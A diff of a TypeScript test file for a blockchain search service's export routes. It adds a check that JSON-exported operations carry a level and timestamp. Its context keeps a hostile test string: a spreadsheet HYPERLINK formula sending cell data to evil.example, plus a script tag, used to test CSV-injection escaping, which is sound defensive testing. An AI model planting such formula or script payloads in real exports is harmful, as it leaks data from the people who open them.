@@ -8,7 +8,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { csvField, exportChunks, mutezToTez } from '../src/export/writer';
 import { OPERATION_COLUMNS } from '../src/routes/export';
 import { makeApi } from './helpers';
-import { ALICE, BOB, NET, TOKEN, TWIN, keyHash, seedChain } from './seed';
+import { ALICE, BOB, NET, OPG2, TOKEN, TWIN, keyHash, seedChain } from './seed';
 
 /** A hostile string from the chain: a spreadsheet formula, a quote, a comma, a line break and HTML. */
 const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click"),\r\n<script>alert(1)</script>';
@@ -272,6 +272,15 @@ describeDb('exports', ({ db }) => {
     expect(rows[0]).toMatchObject({ network: NET, value: TOKEN });
     const c = await app.inject({ method: 'POST', url: '/search/v1/search/export', payload: body });
     expect(csvRows(c.body).map((x) => x.value)).toEqual(page.items.map((i) => i.value));
+    // an operation's row has its level and time (the body's `Level` and `@timestamp`)
+    const ops = await app.inject({
+      method: 'POST',
+      url: '/search/v1/search/export?format=json',
+      payload: { query: OPG2, filters: { networks: [NET], index: ['operations'] } },
+    });
+    const op = (JSON.parse(ops.body) as Array<Record<string, unknown>>)[0];
+    expect(op).toMatchObject({ type: 'operation', value: OPG2, level: 2 });
+    expect(op?.timestamp).toMatch(/^\d{4}-\d\d-\d\dT/);
   });
 
   it('bad input: 400 / 404 with a message, never a 500', async () => {
